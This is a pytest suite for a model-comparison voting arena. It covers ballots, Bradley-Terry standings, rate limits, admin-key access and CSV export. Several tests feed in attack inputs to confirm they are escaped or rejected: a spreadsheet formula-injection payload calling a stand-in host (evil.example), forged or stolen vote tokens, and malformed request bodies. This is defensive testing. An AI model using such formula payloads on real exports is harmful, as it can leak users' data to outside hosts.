"""`persllm arena`: held-out questions, stored answers, anonymised ballots, votes under concurrency, Bradley-Terry
results, CSV export, a real headless Chromium, and the CLI; and the arena's integrity: voter cookies, one vote per
voter and question, rate limits, expiring ballots, a body limit, results behind the admin key, formula-safe CSV, and
databases from before voter ids."""

from __future__ import annotations

import csv
import io
import os
import socket
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import httpx
import pytest

from conftest import free_port, wait_for_http
from persllm.arena import ArenaStore, heldout_questions, prepare, standings
from persllm.arena.app import VOTER_COOKIE, create_arena_app
from persllm.arena.rank import bradley_terry, standings_csv, votes_csv
from persllm.arena.store import SCHEMA_VERSION, ArenaLimits, Question, RateLimited, Vote
from persllm.backends.fake import FakeBackend
from persllm.config import Project, load_project
from persllm.errors import DataError
from persllm.serve.http import serve_in_thread
from persllm.types import Sample, to_record
from persllm.workspace import Workspace, write_jsonl

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
                 "--no-first-run"]
ADMIN = "test-admin-key"
BEARER = {"Authorization": f"Bearer {ADMIN}"}


class Clock:
    """A hand-moved clock for the store: ballots expire and windows pass without waiting."""

    def __init__(self) -> None:
        self.now = 1_700_000_000.0

    def __call__(self) -> float:
        return self.now


def construct_outputs(project: Project) -> list[Sample]:
    """A finished construct stage with three held-out and two training samples."""
    samples = [Sample(id=f"s{i}", persona=project.name, stage=("early", "late")[i % 2], time_label="",
                      kind="ordinary", question=f"Question number {i} about turbines?", analysis="a", response="r",
                      seed_id=f"p{i}", split="test" if i < 3 else "train") for i in range(5)]
    ws = Workspace(project.output)
    write_jsonl(ws.stage_dir("construct") / "samples.jsonl", (to_record(s) for s in samples))
    ws.finish("construct", "test-fingerprint")
    return samples


def model_answers(project: Project, variant: str) -> FakeBackend:
    """Distinct, recognisable answers per model, with an analysis that must never reach the page."""
    return FakeBackend(lambda request: f"[Analysis] secret reasoning [Response] Reply of kind {variant.upper()} to "
                                       f"{request[-1].content}")  # type: ignore[index,union-attr]


@pytest.fixture
def arena(project_dir: Path) -> tuple[Project, ArenaStore]:
    project = load_project(project_dir)
    construct_outputs(project)
    store = ArenaStore(project.output / "arena" / "arena.sqlite")
    opened = []

    def opener(p: Project, variant: str) -> FakeBackend:
        opened.append(variant)
        return model_answers(p, variant)

    made = prepare(project, store, ["base", "dpo"], heldout_questions(project, 10), opener=opener)
    assert made == {"base": 3, "dpo": 3} and opened == ["base", "dpo"]
    again = prepare(project, store, ["base", "dpo"], heldout_questions(project, 10), opener=opener)
    assert again == {"base": 0, "dpo": 0} and opened == ["base", "dpo"]  # nothing to do: no model loaded
    return project, store


@pytest.fixture
def server(arena: tuple[Project, ArenaStore]) -> Iterator[str]:
    with serve_in_thread(create_arena_app(*arena, ["base", "dpo"], admin_key=ADMIN)) as url:
        yield url


def voter_client(url: str) -> httpx.Client:
    """A browser-like client: it keeps the voter cookie the ballot page sets."""
    return httpx.Client(base_url=url, follow_redirects=False)


def test_questions_come_from_the_held_out_split_and_ballots_are_anonymised(arena: tuple[Project, ArenaStore]) -> None:
    _, store = arena
    assert {q.question for q in store.questions()} == {f"Question number {i} about turbines?" for i in range(3)}
    ballot = store.ballot(["base", "dpo"])
    assert ballot is not None and {ballot.left_model, ballot.right_model} == {"base", "dpo"}
    assert "secret" not in ballot.left_answer + ballot.right_answer
    store.vote(ballot.token, "tie", "both fine")
    with pytest.raises(DataError, match="already been voted"):
        store.vote(ballot.token, "left")
    with pytest.raises(DataError, match="unknown ballot"):
        store.vote("forged", "left")
    sides = {store.ballot(["base", "dpo"]).left_model for _ in range(30)}  # type: ignore[union-attr]
    assert sides == {"base", "dpo"}  # the order is random


def test_bradley_terry_and_win_rates() -> None:
    q = Question("q", "early", "?")
    votes = [Vote(i, q, "a", "b", "left" if i < 8 else "right", "", 0.0) for i in range(10)]
    votes += [Vote(10 + k, q, "b", "c", ("left", "left", "tie")[k], "", 0.0) for k in range(3)]
    votes += [Vote(13, q, "c", "a", "right", "", 0.0)]
    rows = standings(votes, samples=100)
    assert [r.model for r in rows] == ["a", "b", "c"] and [r.rank for r in rows] == [1, 2, 3]
    a = rows[0]
    assert (a.games, a.wins, a.losses, a.ties) == (11, 9, 2, 0) and a.win_rate == pytest.approx(9 / 11)
    assert all(r.low <= r.rating <= r.high for r in rows) and rows[0].low > rows[2].low
    assert sum(bradley_terry(votes, ["a", "b", "c"]).values()) == pytest.approx(3000)  # mean 1000 by construction
    assert votes_csv(votes).splitlines()[0].startswith("vote_id,created_utc,question_id")


def test_20_concurrent_votes_are_all_stored(arena: tuple[Project, ArenaStore], server: str) -> None:
    _, store = arena
    clients = [voter_client(server) for _ in range(20)]  # 20 voters (the default lets one address make 20)
    tokens = [c.get("/api/ballot").json()["token"] for c in clients]

    def post(index: int) -> int:
        if index % 2:
            return clients[index].post("/vote", json={"token": tokens[index], "choice": "A"}).status_code
        return clients[index].post("/vote", data={"token": tokens[index], "choice": "tie",
                                                  "comment": f"c{index}"}).status_code

    with ThreadPoolExecutor(20) as pool:
        codes = list(pool.map(post, range(20)))
    assert sorted(codes) == [200] * 10 + [303] * 10
    votes = store.votes()
    assert len(votes) == 20 and {v.comment for v in votes if v.choice == "tie"} == {f"c{i}" for i in range(0, 20, 2)}
    assert len({v.voter for v in votes}) == 20 and all(v.voter for v in votes)
    results = httpx.get(f"{server}/api/results", headers=BEARER).json()
    assert results["votes"] == 20 and sum(r["games"] for r in results["standings"]) == 40
    ranking = httpx.get(f"{server}/results.csv", headers=BEARER).text.splitlines()
    assert ranking[0].startswith("rank,model,games") and len(ranking) == 3
    assert len(httpx.get(f"{server}/votes.csv", params={"key": ADMIN}).text.splitlines()) == 21
    for client in clients:
        client.close()


@pytest.mark.skipif(not CHROMIUM.exists(), reason="Debian chromium (/usr/bin/chromium) is not installed; "
                                                  "`apt-get install chromium` to run the browser test")
def test_vote_in_a_real_browser_and_see_it_in_the_results(arena: tuple[Project, ArenaStore], server: str) -> None:
    from playwright.sync_api import sync_playwright

    _, store = arena
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            page = browser.new_page()
            page.goto(server + "/")
            question = page.inner_text("#question")
            assert question in {q.question for q in store.questions()}
            a, b = page.inner_text("#answer-a"), page.inner_text("#answer-b")
            assert question in a and question in b and "secret" not in a + b and "Test Person" in page.title()
            fields = page.eval_on_selector_all("form [name]", "els => els.map(e => e.name)")
            assert sorted(set(fields)) == ["choice", "comment", "token"]  # nothing on the page names the models
            token = page.get_attribute("input[name=token]", "value")
            page.fill("#comment", "A sounds like her")
            page.click("#vote-a")
            page.wait_for_selector("#notice")
            assert "vote was recorded" in page.inner_text("#notice")
            assert page.query_selector("a[href^='/results']") is None  # voters are not sent to the results
            page.goto(server + "/results")
            assert page.query_selector("#locked") is not None and page.query_selector("#total") is None
            page.goto(f"{server}/results?key={ADMIN}")
            assert page.inner_text("#total") == "1 vote"
            (vote,) = store.votes()
            assert vote.choice == "left" and vote.comment == "A sounds like her"
            assert "REPLY OF KIND " + vote.left_model.upper() in a.upper()  # A really was the left model
            rows = {r.split("\t")[1]: r.split("\t") for r in page.inner_text("#ranking").splitlines()[1:]}
            assert rows[vote.left_model][3] == "1" and rows[vote.right_model][4] == "1"  # wins, losses
            assert store.ballot(["base", "dpo"]) is not None and token
        finally:
            browser.close()


def persllm(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "persllm", "arena", *args], check=False, capture_output=True, text=True,
                          timeout=120)


def test_arena_cli_export_and_errors(arena: tuple[Project, ArenaStore], project_dir: Path, tmp_path: Path) -> None:
    _, store = arena
    ballot = store.ballot(["base", "dpo"])
    assert ballot is not None
    store.vote(ballot.token, "right", "=HYPERLINK(\"http://evil.example/?\"&A1)")
    done = persllm(str(project_dir), "--export", str(tmp_path / "ranking.csv"))
    assert done.returncode == 0, done.stderr
    assert len((tmp_path / "ranking.csv").read_text().splitlines()) == 3
    exported = list(csv.DictReader(io.StringIO((tmp_path / "ranking.votes.csv").read_text())))
    assert len(exported) == 1 and exported[0]["comment"] == "'=HYPERLINK(\"http://evil.example/?\"&A1)"
    missing = persllm(str(tmp_path / "nope"))
    assert missing.returncode == 1 and "no persona.yaml found" in missing.stderr
    one = persllm(str(project_dir))
    assert one.returncode == 1 and "at least two models" in one.stderr
    adapter = persllm(str(project_dir), "--models", "base,dpo")
    assert adapter.returncode == 1 and "no DPO adapter" in adapter.stderr
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen(1)
        port = str(taken.getsockname()[1])
        busy = persllm(str(project_dir), "--models", "base,fake", "--port", port)
    assert busy.returncode == 1 and "in use" in busy.stderr


def test_arena_cli_prepares_answers_and_serves(project_dir: Path, tiny_model: Path) -> None:
    project = load_project(project_dir)
    construct_outputs(project)
    port = free_port()
    process = subprocess.Popen([sys.executable, "-m", "persllm", "arena", str(project_dir), "--models", "base,fake",
                                "--set", f"base_model=hf:{tiny_model}", "--max-tokens", "6", "--port", str(port)],
                               env=os.environ | {"OMP_NUM_THREADS": "1", "PERSLLM_ARENA_ADMIN_KEY": ADMIN},
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        page = wait_for_http(f"http://127.0.0.1:{port}/", process, timeout=120)
        assert page is not None, process.stderr.read() if process.poll() is not None else "no answer in 120 s"
        assert 'id="question"' in page.text and VOTER_COOKIE in page.headers["set-cookie"]
        assert httpx.get(f"http://127.0.0.1:{port}/results").status_code == 401  # the key from the environment
        assert httpx.get(f"http://127.0.0.1:{port}/results", params={"key": ADMIN}).status_code == 200
        store = ArenaStore(project.output / "arena" / "arena.sqlite")
        assert store.models() == ["base", "fake"] and len(store.questions()) == 3
    finally:
        process.terminate()
        process.wait(timeout=30)


# -- integrity (issue 13, item 8) ------------------------------------------------------------------------------------
def same_question_ballots(store: ArenaStore, voter: str) -> tuple[str, str]:
    """Two ballots for one voter on the same question (three questions, so the fourth draw repeats one)."""
    seen: dict[str, str] = {}
    for _ in range(4):
        ballot = store.ballot(["base", "dpo"], voter=voter)
        assert ballot is not None
        if ballot.question.id in seen:
            return seen[ballot.question.id], ballot.token
        seen[ballot.question.id] = ballot.token
    raise AssertionError("four ballots on three questions must repeat one")


def test_voter_cookie_is_issued_and_required(server: str) -> None:
    with voter_client(server) as alice, voter_client(server) as bob:
        page = alice.get("/")
        assert page.status_code == 200 and VOTER_COOKIE in page.cookies
        assert "httponly" in page.headers["set-cookie"].lower() and "samesite=lax" in page.headers["set-cookie"].lower()
        assert VOTER_COOKIE not in alice.get("/").headers.get("set-cookie", "")  # a known voter keeps their id
        token = alice.get("/api/ballot").json()["token"]
        bare = httpx.post(f"{server}/vote", json={"token": token, "choice": "A"})
        assert bare.status_code == 400 and "no voter id" in bare.json()["error"]
        forged = httpx.post(f"{server}/vote", json={"token": token, "choice": "A"}, cookies={VOTER_COOKIE: "made-up"})
        assert forged.status_code == 400 and "no voter id" in forged.json()["error"]
        bob.get("/")
        stolen = bob.post("/vote", json={"token": token, "choice": "A"})  # a ballot harvested by someone else
        assert stolen.status_code == 400 and "another voter" in stolen.json()["error"]
        assert alice.post("/vote", json={"token": token, "choice": "A"}).status_code == 200


def test_one_vote_per_voter_per_question_and_per_window(arena: tuple[Project, ArenaStore]) -> None:
    project, first = arena
    clock = Clock()
    store = ArenaStore(first.path, ArenaLimits(votes_per_window=2, window_s=60.0), clock=clock)
    voter = store.new_voter()
    one, again = same_question_ballots(store, voter)
    store.vote(one, "left", voter=voter)
    with pytest.raises(DataError, match="already voted on this question"):
        store.vote(again, "right", voter=voter)  # the same question on another ballot: refused
    voted = store.votes()[0].question.id
    assert all(store.ballot(["base", "dpo"], voter=voter).question.id != voted  # type: ignore[union-attr]
               for _ in range(20))  # and not offered again
    second = store.ballot(["base", "dpo"], voter=voter)
    assert second is not None
    store.vote(second.token, "tie", voter=voter)
    third = store.ballot(["base", "dpo"], voter=voter)
    assert third is not None
    with pytest.raises(RateLimited, match="2 votes per 1 minutes"):
        store.vote(third.token, "left", voter=voter)
    clock.now += 61  # the window has passed
    store.vote(third.token, "left", voter=voter)
    assert store.ballot(["base", "dpo"], voter=voter) is None  # every question voted on
    with serve_in_thread(create_arena_app(project, store, ["base", "dpo"], admin_key=ADMIN)) as url, \
            voter_client(url) as client:
        assert "voted on every question" not in client.get("/").text
        codes = [client.post("/vote", json={"token": client.get("/api/ballot").json()["token"], "choice": "A"})
                 for _ in range(3)]
        assert [c.status_code for c in codes] == [200, 200, 429] and "come back later" in codes[2].json()["error"]


def test_new_voters_per_address_are_limited(arena: tuple[Project, ArenaStore]) -> None:
    project, first = arena
    store = ArenaStore(first.path, ArenaLimits(new_voters_per_window=3))
    with serve_in_thread(create_arena_app(project, store, ["base", "dpo"], admin_key=ADMIN)) as url, \
            voter_client(url) as keeper:
        assert keeper.get("/").status_code == 200
        assert [httpx.get(f"{url}/").status_code for _ in range(3)] == [200, 200, 429]  # cookies thrown away
        assert httpx.get(f"{url}/api/ballot").status_code == 429
        assert keeper.get("/").status_code == 200  # a voter who keeps the cookie is not affected


def test_ballots_expire_and_do_not_pile_up(arena: tuple[Project, ArenaStore]) -> None:
    _, first = arena
    clock = Clock()
    limits = ArenaLimits(ballot_ttl_s=600.0, pending_per_voter=5)
    store = ArenaStore(first.path, limits, clock=clock)
    voter = store.new_voter()
    old = store.ballot(["base", "dpo"], voter=voter)
    assert old is not None
    clock.now += 601
    with pytest.raises(DataError, match="expired"):
        store.vote(old.token, "left", voter=voter)
    for _ in range(50):  # fifty page loads by one voter
        store.ballot(["base", "dpo"], voter=voter)
    assert store.pending() == 5
    for _ in range(30):  # ballots without a voter (scripts) are not capped, but they expire
        store.ballot(["base", "dpo"])
    clock.now += 601
    store.ballot(["base", "dpo"])
    assert store.pending() == 1
    with pytest.raises(DataError, match="unknown ballot"):
        store.vote(old.token, "left", voter=voter)  # cleared away


def test_vote_body_limit_and_bad_bodies_answer_4xx(server: str) -> None:
    with voter_client(server) as client:
        token = client.get("/api/ballot").json()["token"]
        big = client.post("/vote", json={"token": token, "choice": "A", "comment": "x" * 100_000})
        assert big.status_code == 413 and "larger than" in big.json()["error"]

        def chunks() -> Iterator[bytes]:  # no Content-Length: the limit holds on what really arrives
            yield b'{"token": "' + token.encode() + b'", "comment": "'
            for _ in range(100):
                yield b"y" * 1000
            yield b'"}'

        streamed = client.post("/vote", content=chunks(), headers={"content-type": "application/json"})
        assert streamed.status_code == 413
        bad = {"not JSON": b"{nope", "a list": b"[1, 2]", "deep": b"[" * 20_000,
               "a lone surrogate": b'{"token": "%s", "choice": "A", "comment": "\\ud800"}' % token.encode(),
               "a surrogate token": b'{"token": "\\udfff", "choice": "A"}'}
        for name, body in bad.items():
            answer = client.post("/vote", content=body, headers={"content-type": "application/json"})
            assert answer.status_code == 400 and answer.json()["error"], name
        form = client.post("/vote", content=b"token=\xff\xfe&choice=left",
                           headers={"content-type": "application/x-www-form-urlencoded"})
        assert form.status_code == 400 and "UTF-8" in form.text
        assert client.get("/", params={"voted": "not-a-number"}).status_code == 200
        assert client.post("/vote", json={"token": token, "choice": "A", "comment": "fine"}).status_code == 200


def test_results_and_csv_need_the_admin_key(arena: tuple[Project, ArenaStore], server: str) -> None:
    project, store = arena
    for path in ("/results", "/api/results", "/results.csv", "/votes.csv"):
        assert httpx.get(server + path).status_code == 401, path
        assert httpx.get(server + path, params={"key": "wrong"}).status_code == 401, path
        assert httpx.get(server + path, headers={"Authorization": "Bearer wrong"}).status_code == 401, path
        assert httpx.get(server + path, params={"key": ADMIN}).status_code == 200, path
        assert httpx.get(server + path, headers=BEARER).status_code == 200, path
    assert "base" not in httpx.get(server + "/results").text
    page = httpx.get(server + "/results", params={"key": ADMIN}).text
    assert f'href="/votes.csv?key={ADMIN}"' in page  # the organiser's links carry the key
    assert "/results" not in httpx.get(server + "/").text  # voters are not sent there
    made = create_arena_app(project, store, ["base", "dpo"])
    assert len(made.state.admin_key) >= 20  # no key given: a random one, never an open door


def test_csv_cells_cannot_start_a_formula() -> None:
    nasty = ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\tx", "\r=x", "=HYPERLINK(\"http://evil.example\")"]
    votes = [Vote(i, Question(text, text, text), text, "b", "left", text, 0.0) for i, text in enumerate(nasty)]
    rows = list(csv.reader(io.StringIO(votes_csv(votes), newline="")))[1:]
    assert len(rows) == len(nasty)  # a carriage return in a cell does not start a row of its own
    for row in rows:
        for cell in (row[2], row[3], row[4], row[5], row[8], row[9]):
            assert cell.startswith("'") and cell[1:] in nasty, row
    ranking = list(csv.reader(io.StringIO(standings_csv(standings(votes, samples=5)), newline="")))
    assert {r[1] for r in ranking[1:]} == {"'" + t for t in nasty} | {"b"}
    assert all(not cell.startswith("'") for r in ranking[1:] for cell in r[2:])  # numbers stay numbers
    from persllm.csvsafe import safe_cell

    assert [safe_cell(v) for v in ("-12.5", "+3", "plain", 7, None)] == ["-12.5", "+3", "plain", "7", ""]
    src = Path(__file__).resolve().parents[1] / "src" / "persllm"
    writers = [p for p in src.rglob("*.py") if "csv.writer" in p.read_text() or "DictWriter" in p.read_text()]
    assert writers == [src / "csvsafe.py"]  # every CSV export goes through the escaping helper


OLD_SCHEMA = """
CREATE TABLE questions (id TEXT PRIMARY KEY, stage TEXT NOT NULL, question TEXT NOT NULL);
CREATE TABLE answers (question_id TEXT NOT NULL REFERENCES questions(id), model TEXT NOT NULL,
    raw TEXT NOT NULL, answer TEXT NOT NULL, created REAL NOT NULL, PRIMARY KEY (question_id, model));
CREATE TABLE ballots (token TEXT PRIMARY KEY, question_id TEXT NOT NULL, left_model TEXT NOT NULL,
    right_model TEXT NOT NULL, created REAL NOT NULL);
CREATE TABLE votes (id INTEGER PRIMARY KEY AUTOINCREMENT, token TEXT NOT NULL UNIQUE,
    question_id TEXT NOT NULL, left_model TEXT NOT NULL, right_model TEXT NOT NULL,
    choice TEXT NOT NULL CHECK (choice IN ('left', 'right', 'tie')), comment TEXT NOT NULL, created REAL NOT NULL);
INSERT INTO questions VALUES ('q1', 'early', 'Old question?'), ('q2', 'late', 'Another?');
INSERT INTO answers VALUES ('q1', 'a', 'r', 'A1', 0), ('q1', 'b', 'r', 'B1', 0), ('q2', 'a', 'r', 'A2', 0),
    ('q2', 'b', 'r', 'B2', 0);
INSERT INTO votes (token, question_id, left_model, right_model, choice, comment, created)
    VALUES ('t-old', 'q1', 'a', 'b', 'left', 'from before', 5);
"""


def test_a_database_from_before_voter_ids_opens_and_keeps_its_votes(tmp_path: Path) -> None:
    path = tmp_path / "arena.sqlite"
    with sqlite3.connect(path) as db:  # the arena's first schema, as a released persllm wrote it
        db.executescript(OLD_SCHEMA)
    store = ArenaStore(path)
    (old,) = store.votes()
    assert (old.comment, old.voter, old.winner) == ("from before", None, "a")
    voter = store.new_voter()
    ballot = store.ballot(["a", "b"], voter=voter)
    assert ballot is not None
    store.vote(ballot.token, "tie", voter=voter)
    assert len(ArenaStore(path).votes()) == 2  # opening again migrates nothing twice
    with sqlite3.connect(path) as db:
        assert db.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION
    with sqlite3.connect(path) as db:
        db.execute(f"PRAGMA user_version = {SCHEMA_VERSION + 1}")
    with pytest.raises(DataError, match="newer than this persllm"):
        ArenaStore(path)
